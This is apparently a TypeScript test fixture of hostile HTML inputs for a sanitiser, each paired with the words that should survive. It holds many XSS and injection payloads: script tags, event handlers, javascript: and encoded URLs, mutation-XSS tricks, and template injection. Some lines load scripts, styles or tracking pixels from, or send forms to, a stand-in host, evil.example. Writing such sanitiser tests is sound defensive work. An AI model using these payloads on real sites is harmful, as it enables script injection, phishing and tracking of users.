/**
 * Texts that try to do more than show words: name, HTML, and the words that may be shown, one item per
 * paragraph.
 */
export const HOSTILE_TEXTS: readonly (readonly [what: string, html: string, words: string[]])[] = [
  ['a script', '<p>Open</p><script>alert(1)</script><p>today</p>', ['Open', 'today']],
  ['a script in capitals', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT><p>Open</p>', ['Open']],
  ['a script within words', 'Op<script>alert(1)</script>en', ['Open']],
  ['a script that is not closed', '<p>Open</p><script>alert(1)', ['Open']],
  [
    'handlers',
    '<p onclick="alert(1)" onmouseover=alert(2)>Open</p><b onfocus=alert(1) autofocus tabindex=1>now</b>',
    ['Open', 'now'],
  ],
  ['a picture that fails', '<p>Open</p><img src=x onerror=alert(1)>', ['Open']],
  ['a link that runs', '<a href="javascript:alert(1)">Open</a>', ['Open']],
  ['a link that runs, written otherwise', '<a href=" JaVa&#115;cript&colon;alert(1)">Open</a>', ['Open']],
  ['a link that runs, over two lines', '<a href="java\nscript:alert(1)">Open</a>', ['Open']],
  ['a link that runs another script', '<a href="vbscript:msgbox(1)">Open</a>', ['Open']],
  ['a link of data', '<a href="data:text/html,<script>alert(1)</script>">Open</a>', ['Open']],
  ['a link to another site', '<a href="https://evil.example/login">Open</a>', ['Open']],
  [
    'a link to another site without a scheme',
    '<a href="//evil.example">Open</a><a href="/\\evil.example"> now</a>',
    ['Open now'],
  ],
  [
    'a link to a site that is named like ours',
    '<a href="https://www.portage.example.evil.example/">Open</a>',
    ['Open'],
  ],
  [
    'a link by a name before the host',
    '<a href="https://www.portage.example@evil.example/">Open</a>',
    ['Open'],
  ],
  ['a link without a lock', '<a href="http://www.portage.example/">Open</a>', ['Open']],
  ['a link that signs in', '<a href="/register-login?token=stolen&sysScene=app">Open</a>', ['Open']],
  [
    'a style that covers the page',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Open</div>',
    ['Open'],
  ],
  [
    'a sheet of styles',
    '<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css><p class="pt-page">Open</p>',
    ['Open'],
  ],
  [
    'a sheet of styles that brings others',
    '<style>@import url(https://evil.example/x.css);p{position:fixed;inset:0}</style><p>Open</p>',
    ['Open'],
  ],
  ['an id that is ours', '<p id="nav-back">Open</p><a name="location">now</a>', ['Open', 'now']],
  [
    'a picture that tells who reads',
    '<p>Open</p><img src="https://evil.example/p.gif?u=1" width=1 height=1 alt="pixel">',
    ['Open'],
  ],
  [
    'a picture of ours that tells who reads',
    '<p>Open</p><img src="https://www.portage.example/p.gif?u=1">',
    ['Open'],
  ],
  ['a picture in a style', '<p style="background:url(https://evil.example/p.gif)">Open</p>', ['Open']],
  [
    'a picture of other sizes',
    '<p>Open</p><img srcset="https://evil.example/p.gif 1x"><picture><source srcset="https://evil.example/p.gif"></picture>',
    ['Open'],
  ],
  [
    'a form',
    '<form action="https://evil.example"><label>Code</label><input name=code value=x><button formaction="javascript:alert(1)">Send</button></form>',
    ['CodeSend'],
  ],
  [
    'fields',
    '<p>Open</p><textarea>typed</textarea><select><option>one</option></select><input type=image src=https://evil.example/p.gif>',
    ['Open'],
  ],
  [
    'a drawing',
    '<svg onload=alert(1)><script>alert(1)</script><text>drawn</text></svg><p>Open</p>',
    ['Open'],
  ],
  [
    'a drawing that is animated',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg><p>Open</p>',
    ['Open'],
  ],
  [
    'another page',
    '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>">no frames</iframe><p>Open</p>',
    ['Open'],
  ],
  [
    'objects',
    '<object data="https://evil.example/x.swf">old</object><embed src="https://evil.example/x.swf"><p>Open</p>',
    ['Open'],
  ],
  [
    'a film and a sound',
    '<video src=https://evil.example/v.mp4 poster=https://evil.example/p.gif autoplay>film</video><audio src=x autoplay onerror=alert(1)></audio><p>Open</p>',
    ['Open'],
  ],
  [
    'a way elsewhere',
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/"><p>Open</p>',
    ['Open'],
  ],
  [
    'a comment',
    '<p>Open</p><!-- <script>alert(1)</script> --><!--[if IE]><script>alert(1)</script><![endif]-->',
    ['Open'],
  ],
  ['wrong nesting', '<b><i>Open</b> now</i></p></div></span><table><p>later</table>', ['Open now', 'later']],
  ['tags within tags', '<<script>script>alert(1)<</script>/script><p>Open</p>', ['</script>', 'Open']],
  [
    'an attribute that is not closed',
    '<p>Open</p><a href="/my" title="><img src=x onerror=alert(1)>">now</a>',
    ['Open', 'now'],
  ],
  [
    'a title that ends too soon',
    '<p>Open</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ['Open'],
  ],
  [
    'a style within a drawing',
    '<p>Open</p><svg><style><a id="</style><img src=1 onerror=alert(1)>"></style></svg>',
    ['Open'],
  ],
  [
    'a formula with a table',
    '<p>Open</p><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>',
    ['Open'],
  ],
  ['a template', '<template><img src=x onerror=alert(1)></template><p>Open</p>', ['Open']],
  [
    'frames of old',
    '<noembed><img src=x onerror=alert(1)></noembed><noframes>x</noframes><p>Open</p>',
    ['Open'],
  ],
  [
    'elements of their own',
    '<x-menu onclick=alert(1)>Open</x-menu><marquee onstart=alert(1)> now</marquee>',
    ['Open now'],
  ],
  [
    'parts of ours by name',
    '<wx-button open-type="getPhoneNumber">Open</wx-button><View catchtap="x"> now</View>',
    ['Open now'],
  ],
  [
    'what looks like a template',
    '<p>{{constructor.constructor("alert(1)")()}}</p>',
    ['{{constructor.constructor("alert(1)")()}}'],
  ],
]
